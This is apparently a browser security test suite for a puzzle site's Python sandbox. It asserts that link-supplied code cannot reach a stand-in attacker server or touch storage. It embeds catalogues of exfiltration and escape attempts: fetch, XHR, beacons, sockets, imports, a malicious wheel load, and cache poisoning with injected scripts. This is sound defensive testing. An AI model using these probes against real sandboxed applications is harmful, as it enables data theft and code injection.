"""Code of a link runs in a sandbox after a click: it can send, keep, reach and change nothing.

Each attack is tried by Python code that came with a link, and reports what came of it. A second
server notes every request that arrives, and answers as a helpful host of an attacker would.
"""

from __future__ import annotations

import base64
import json
import re
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, expect

from tests.web.browser.conftest import guard
from tests.web.browser.table import PATIENCE, VIEWS, address, until
from tests.web.site import Site, serving

BOARD = "8 1 3 / 4 0 2 / 7 6 5"


class Recorder(ThreadingHTTPServer):
    """A server of another origin that lets every page read its answers, and notes each request."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answer)
        self.requests: list[str] = []
        self.address = f"http://127.0.0.1:{self.server_port}"


class _Answer(BaseHTTPRequestHandler):
    server: Recorder

    def handle_one_request(self) -> None:
        """Note the request, of any method, and answer with a script that makes a further one."""
        self.raw_requestline = self.rfile.readline(65537)
        self.close_connection = True
        if not self.raw_requestline or not self.parse_request():
            return
        self.server.requests.append(f"{self.command} {self.path}")
        body = f"fetch('{self.server.address}/ran');".encode()
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        """Keep the terminal clean."""


@pytest.fixture
def elsewhere() -> Iterator[Recorder]:
    """Return the server of the attacker."""
    with Recorder() as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


_SLOW = [pytest.param(name, marks=pytest.mark.slow) for name in ("served", "cached")]


@pytest.fixture(scope="module", params=["folder", *_SLOW])
def python_site(
    request: pytest.FixtureRequest, folder_site: Site, site_folder: Path
) -> Iterator[Site]:
    """Return a site with Python: the folder on a server of files, or with `taquin serve --site`;
    or plain `taquin serve` with Python in its cache folder.
    """
    if request.param == "folder":
        yield folder_site
        return
    words = ["--site", str(site_folder)] if request.param == "served" else []
    with pytest.MonkeyPatch.context() as patch:
        if request.param == "cached":
            patch.setenv("TAQUIN_CACHE", str(site_folder))
        with serving("--no-warm", "--no-open", *words) as site:
            yield site


@contextmanager
def window(browser: Browser, site: Site, forgiven: str) -> Iterator[tuple[BrowserContext, Page]]:
    """Open a window; console errors, exceptions and requests fail unless they are forgiven."""
    faults: list[str] = []
    with browser.new_context(reduced_motion="reduce") as context:
        context.set_default_timeout(PATIENCE)
        guard(context, site.address, faults)
        yield context, context.new_page()
    assert [fault for fault in faults if not re.search(forgiven, fault)] == []


def link_to(code: str) -> str:
    """Return the address of the tab Code with this code in it."""
    packer = zlib.compressobj(wbits=-15)
    packed = base64.urlsafe_b64encode(packer.compress(code.encode()) + packer.flush())
    return address(BOARD, "code", code=packed.decode().rstrip("="))


# Each entry is tried once, when the code is loaded. What returns a promise, or an object that tells
# later, has its answer noted then. `mine` prints all answers: "no" for what failed.
_CODE = """
import sys, js, asyncio
from pyodide.ffi import to_js

THERE, HERE, PAGE = {there!r}, {here!r}, {page!r}
SCRIPT = {script!r}

def blob(text):
    part = js.Blob.new(to_js([text]), options(type="text/javascript"))
    return js.URL.createObjectURL(part)

def options(**values):
    return to_js(values, dict_converter=js.Object.fromEntries)

def class_import():
    return js.WorkerGlobalScope.prototype.importScripts.call(js.self, THERE + "/scripts")

def xhr(method, url):
    request = js.XMLHttpRequest.new()
    request.open(method, url, False)
    request.send("secret")
    return request.status

def heard(thing):
    def executor(resolve, reject):
        thing.onerror = lambda *_: reject("error")
        thing.onopen = thing.onmessage = thing.onsuccess = lambda event: resolve(event)
    return js.Promise.new(executor)

def from_url(url):
    import pyodide.http
    return pyodide.http.open_url(url).read()

def python_socket():
    import socket
    host, port = THERE.removeprefix("http://").split(":")
    connection = socket.create_connection((host, int(port)), 2)
    connection.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
    if not connection.recv(10): raise OSError

def urllib():
    import urllib.request
    urllib.request.urlopen(THERE + "/urllib", timeout=2)

def pyfetch():
    import pyodide.http
    return asyncio.ensure_future(pyodide.http.pyfetch(THERE + "/pyfetch"))

def run_js():
    from pyodide.code import run_js
    return run_js("import('" + THERE + "/import')")

ATTACKS = {{
    "fetch": lambda: js.fetch(THERE + "/fetch"),
    "fetch opaque": lambda: js.fetch(THERE + "/opaque", options(mode="no-cors", keepalive=True)),
    "fetch here": lambda: js.fetch(HERE + "/runtime.json"),
    "fetch post": lambda: js.fetch(HERE + "/api/stop", options(method="POST", mode="no-cors")),
    "xhr": lambda: xhr("GET", THERE + "/xhr"),
    "xhr post": lambda: xhr("POST", THERE + "/xhr"),
    "xhr here": lambda: xhr("GET", HERE + "/runtime.json"),
    "websocket": lambda: heard(js.WebSocket.new(THERE.replace("http", "ws") + "/socket")),
    "eventsource": lambda: heard(js.EventSource.new(THERE + "/events")),
    "transport": lambda: js.WebTransport.new(THERE.replace("http", "https")).ready,
    "beacon": lambda: js.navigator.sendBeacon(THERE + "/beacon", "secret"),
    "image": lambda: js.Image.new(),
    "font": lambda: js.FontFace.new("f", f"url({{THERE}}/font)").load(),
    "importScripts": lambda: js.importScripts(THERE + "/scripts"),
    "importScripts of the class": class_import,
    "import": run_js,
    "eval": lambda: js.eval("1"),
    "function": lambda: js.Function.new("return 1")(),
    "worker there": lambda: heard(js.Worker.new(THERE + "/worker")),
    "worker here": lambda: heard(js.Worker.new(PAGE + "/python/worker.js")),
    "worker data": lambda: heard(js.Worker.new("data:text/javascript,postMessage(1)")),
    "shared worker": lambda: js.SharedWorker.new(blob("1")),
    "service worker": lambda: js.navigator.serviceWorker.register(HERE + "/service-worker.js"),
    "caches": lambda: js.caches.open("taquin"),
    "indexedDB": lambda: heard(js.indexedDB.open("taquin")),
    "file system": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.query(),
    "localStorage": lambda: js.localStorage.length,
    "sessionStorage": lambda: js.sessionStorage.length,
    "cookies": lambda: js.cookieStore.getAll(),
    "document": lambda: js.document.body,
    "parent": lambda: js.parent.document,
    "top": lambda: js.top.location,
    "open": lambda: js.open(THERE + "/open"),
    "location": lambda: js.location.assign(THERE + "/location"),
    "webrtc": lambda: js.RTCPeerConnection.new(),
    "notification": lambda: {{"granted": 1}}[js.Notification.permission],
    "open_url": lambda: from_url(THERE + "/open_url"),
    "pyfetch": pyfetch,
    "urllib": urllib,
    "socket": python_socket,
}}

def try_all():
    told = sys.told = {{}}
    for name, attack in ATTACKS.items():
        told[name] = "?"
        def works(*_, name=name):
            told[name] = "YES"
        def fails(*_, name=name):
            told[name] = "no"
        try:
            answer = attack()
            if isinstance(answer, asyncio.Future):
                answer.add_done_callback(
                    lambda f, works=works, fails=fails: fails() if f.exception() else works()
                )
            elif hasattr(answer, "then"):
                answer.then(works, fails)
            else:
                works()
        except BaseException:
            fails()
    # Pyodide tells nobody that this fails; the other server would hear it.
    import pyodide_js
    pyodide_js.loadPackage(THERE + "/evil-1.0-py3-none-any.whl")
    # A worker of the code's own runs, but has the same policy.
    worker = js.Worker.new(blob(SCRIPT))
    worker.onmessage = lambda event: told.update(event.data.to_py())

if not hasattr(sys, "told"):
    try_all()

def mine(board):
    import json
    print(json.dumps(sys.told, separators=(",", ":")))
    return 0
"""

# The same and more in JavaScript, in a worker that the code makes of a blob, and in one of its own.
_SCRIPT = """
const depth = DEPTH;
const told = {};
const tried = async (name, attack) => {
  told[name] = "?";
  told[name] = await (async () => attack())().then(() => "YES", () => "no");
};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
(async () => {
  await Promise.all([
    tried("js fetch", () => fetch("THERE/js-fetch")),
    tried("js opaque", () => fetch("THERE/js-opaque", { mode: "no-cors" })),
    tried("js import", () => import("THERE/js-import")),
    tried("js import here", () => import("PAGE/page/dom.js")),
    tried("js blob import", () => import(blob("await fetch('THERE/js-blob-import')"))),
    tried("js scripts", () => importScripts("THERE/js-scripts")),
    tried("js caches", () => caches.open("taquin")),
    tried("js database", () => new Promise((resolve, reject) => {
      const asked = indexedDB.open("taquin");
      asked.onsuccess = resolve;
      asked.onerror = reject;
    })),
    tried("js eval", () => eval("1")),
  ]);
  if (depth) {
    const inner = new Worker(blob(SOURCE));
    inner.onmessage = ({ data }) => {
      for (const [name, value] of Object.entries(data)) told[`${name} inside`] = value;
      postMessage(told);
    };
  } else postMessage(told);
})();
"""


def _attack(there: str, site: Site) -> str:
    here, page = site.address, site.scripts
    plain = _SCRIPT.replace("THERE", there).replace("HERE", here).replace("PAGE", page)
    inner = plain.replace("DEPTH", "0").replace("SOURCE", '""')
    script = plain.replace("DEPTH", "1").replace("SOURCE", json.dumps(inner))
    return _CODE.format(there=there, here=here, page=page, script=script)


def allow(page: Page) -> None:
    """Let the code of the link run."""
    page.get_by_role("button", name="Run it").click()


def printed(page: Page) -> dict[str, str]:
    """Return what the code says about its attacks."""
    text = page.locator(".printed")
    text.wait_for()
    answers: dict[str, str] = json.loads(text.inner_text())
    return answers


def is_over(page: Page) -> bool:
    """Have the code print again, and return whether every attack has come to its end."""
    answers = printed(page)
    editor = page.get_by_label("Python code")
    editor.press("Control+End")
    editor.press("Enter")
    page.wait_for_timeout(3000)
    return "js fetch inside" in answers and "?" not in answers.values()


_IS_KEPT = "navigator.serviceWorker.controller?.state === 'activated'"
_KEPT = """async () => ({
    caches: await Promise.all((await caches.keys()).map(async name =>
        [name, (await (await caches.open(name)).keys()).map(({url}) => url).sort()])),
    databases: (await indexedDB.databases()).map(({name}) => name),
    workers: (await navigator.serviceWorker.getRegistrations()).map(each => each.active?.scriptURL),
    local: Object.keys(localStorage).filter(key => key !== "taquin-last-code"),
    cookies: document.cookie,
})"""
_IN_THE_WINDOW = (
    *("parent.document", "top.location.href", "top.location = 'about:blank'"),
    *("localStorage.length", "sessionStorage.length", "document.cookie", "caches.open('taquin')"),
    *("navigator.serviceWorker.register('service-worker.js')", "navigator.storage.getDirectory()"),
    *("open('about:blank').document", "fetch('THERE/window')", "import('THERE/window')"),
    "Object.assign(new Image(), {src: 'THERE/image'}).decode()",
)
REFUSED = (
    r"Content Security Policy|sandboxed|violates the following|Failed to (load|fetch)|Access to"
)


@pytest.mark.slow
def test_code_of_a_link_sends_keeps_and_reaches_nothing(
    browser: Browser, python_site: Site, elsewhere: Recorder
) -> None:
    with window(browser, python_site, rf"{REFUSED}|{elsewhere.address}") as (context, page):
        page.goto(python_site.address + "/")
        page.locator("#panel > *").first.wait_for()
        if not python_site.has_server:
            until(page, lambda: bool(page.evaluate(_IS_KEPT)))
        page.goto(python_site.address + link_to(_attack(elsewhere.address, python_site)))
        asking = page.get_by_label("Code of the link")
        expect(asking).to_contain_text("runs only after your click")
        expect(asking).to_contain_text("cannot send anything")
        # Nothing of it has run, and there is no sandbox yet.
        assert len(page.frames) == 1
        before = page.evaluate(_KEPT)
        allow(page)
        until(page, lambda: is_over(page))
        answers = printed(page)
        assert {name for name, answer in answers.items() if answer != "no"} == set()
        assert len(answers) > 50
        assert elsewhere.requests == []
        assert page.evaluate(_KEPT) == before
        assert len(context.pages) == 1
        assert page.url.startswith(python_site.address)
        # The window of the frame, where no code runs, is closed off as well.
        frame = page.frames[-1]
        assert frame.evaluate("origin") == "null"
        for attack in _IN_THE_WINDOW:
            call = f"(async () => {attack})().then(() => 'YES', () => 'no')"
            assert frame.evaluate(call.replace("THERE", elsewhere.address)) == "no", attack
        # Chromium says that it sends this.
        frame.evaluate(f"void navigator.sendBeacon('{elsewhere.address}/beacon')")
        page.wait_for_timeout(500)
        assert elsewhere.requests == []


# What a page of the same origin, or code of a link before there was a sandbox, could do.
_OVERWRITE = """async script => {
    for (const name of await caches.keys()) {
        const cache = await caches.open(name);
        for (const request of await cache.keys()) {
            const type = (await cache.match(request)).headers.get("Content-Type");
            const body = type.startsWith("text/html") ? `<script>${script}</script>` : script;
            await cache.put(request, new Response(body, {headers: {"Content-Type": type}}));
        }
    }
}"""


@pytest.mark.slow
def test_a_kept_file_that_was_changed_is_not_used(
    browser: Browser, folder_site: Site, elsewhere: Recorder
) -> None:
    with window(browser, folder_site, "ERR_INTERNET_DISCONNECTED|Failed to") as (context, page):
        page.goto(folder_site.address + "/")
        until(page, lambda: bool(page.evaluate(_IS_KEPT)))
        page.evaluate(_OVERWRITE, f"fetch('{elsewhere.address}/ran', {{mode: 'no-cors'}});")
        page.goto("about:blank")
        page.goto(folder_site.address + address("1 2 3 / 4 5 6 / 0 7 8", "watch"))
        page.locator(VIEWS["watch"]).first.wait_for()
        page.get_by_role("button", name="Last step").click()
        expect(page.locator(".narration .sentence.good")).to_contain_text("2 moves")
        # Without a network there is nothing but the changed files.
        context.set_offline(True)
        with pytest.raises(Error, match="ERR_"):
            page.goto(folder_site.address + "/?again")
        context.set_offline(False)
        assert elsewhere.requests == []


def test_a_changed_file_is_not_sent_to_the_sandbox(browser: Browser, folder_site: Site) -> None:
    with window(browser, folder_site, "integrity|digest") as (_, page):
        page.route("**/sandbox.html", lambda route: route.fulfill(body="<script>1</script>"))
        page.goto(folder_site.address + address(BOARD, "code"))
        sentence = "sandbox.html cannot be loaded, or differs from the published file"
        expect(page.locator("#code-fault")).to_contain_text(sentence)
        assert len(page.frames) == 1


ENDLESS = "def mine(board):\n    while board.cells:\n        pass\n"


@pytest.mark.slow
def test_stop_removes_the_sandbox_and_other_code_of_a_link_gets_a_new_one(
    browser: Browser, folder_site: Site
) -> None:
    with window(browser, folder_site, "\0") as (_, page):
        page.goto(folder_site.address + link_to(ENDLESS))
        allow(page)
        expect(page.locator(".code-status")).to_have_text("Trying it …")
        (frame,) = page.frames[1:]
        page.get_by_role("button", name="Stop").click()
        until(page, frame.is_detached)
        # Code of another link starts none before the click.
        page.goto(folder_site.address + link_to("import sys\nsys.left = 1\n" + PRINTS))
        page.get_by_role("button", name="Run it").wait_for()
        until(page, lambda: len(page.frames) == 1)
        allow(page)
        expect(page.locator(".printed")).to_have_text("1")
        page.goto(folder_site.address + link_to(PRINTS))
        allow(page)
        expect(page.locator(".printed")).to_have_text("None")


PRINTS = """def mine(board):
    import sys
    print(getattr(sys, "left", None))
    return 0
"""


_FLOODED = """async ([scripts, message]) => {
    const { sandboxedWorker } = await import(`${scripts}/python/sandbox.js`);
    const names = ["python/sandbox.html", "python/worker.js"];
    const { worker } = await sandboxedWorker(Object.fromEntries(names.map(name => [name, ""])));
    let count = 0;
    for (;;) {
        const { data } = await new Promise(resolve => {
            worker.onmessage = resolve;
        });
        if (data.refused) return count;
        count++;
    }
}"""


@pytest.mark.sampled(3)
@pytest.mark.parametrize(
    "message",
    [
        *("'x'.repeat(100000)", "null", "new Map()", "{id: 1, piece: {length: 1}}"),
        *("{id: 1, piece: 'x'.repeat(100000)}", "{id: 1, isStream: true}"),
    ],
)
def test_the_frame_ends_a_worker_that_floods_the_page(
    browser: Browser, folder_site: Site, message: str
) -> None:
    with window(browser, folder_site, "\0") as (_, page):
        flood = f"for (;;) postMessage({message});"
        page.route("**/python/worker.js", lambda route: route.fulfill(body=flood))
        page.goto(folder_site.address + "/")
        taken = page.evaluate(_FLOODED, [folder_site.scripts, message])
        assert (taken == 0) == ("id: 1" not in message or "length" in message)


FLOOD = """import js
while True:
    js.postMessage("x" * 100_000)
"""
PIECES = """import js
from pyodide.ffi import to_js
for id in range(20):
    js.postMessage(to_js({"id": id, "isStream": True}, dict_converter=js.Object.fromEntries))
while True:
    for id in range(20):
        js.postMessage(
            to_js({"id": id, "piece": "x" * 100_000}, dict_converter=js.Object.fromEntries)
        )
"""


@pytest.mark.slow
@pytest.mark.parametrize("code", [FLOOD, PIECES], ids=["texts", "pieces"])
def test_code_that_floods_the_page_is_ended_and_other_code_runs(
    browser: Browser, folder_site: Site, code: str
) -> None:
    with window(browser, folder_site, "\0") as (_, page):
        page.goto(folder_site.address + link_to(code))
        allow(page)
        expect(page.locator("#code-fault")).to_contain_text("messages that this page does not take")
        page.goto(folder_site.address + link_to(PRINTS))
        allow(page)
        expect(page.locator(".printed")).to_have_text("None")


SPOOFED = """import js
from pyodide.ffi import to_js
def post(**message):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
for id in range(20):
    MESSAGES
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("messages", "sentence"),
    [
        ("post(id=id, isStream=True); post(id=id, isStream=True)", ""),
        ("post(missing='Your money')", ""),
        ("post(id=id, isStream=True); post(id=id, status=200, body='')", "messages that this page"),
    ],
)
def test_code_that_sends_messages_of_the_worker_hangs_nothing(
    browser: Browser, folder_site: Site, messages: str, sentence: str
) -> None:
    with window(browser, folder_site, "\0") as (_, page):
        page.goto(folder_site.address + link_to(SPOOFED.replace("MESSAGES", messages) + PRINTS))
        allow(page)
        if sentence:
            expect(page.locator("#code-fault")).to_contain_text(sentence)
            page.goto(folder_site.address + link_to(PRINTS))
            allow(page)
        expect(page.locator(".printed")).to_have_text("None")
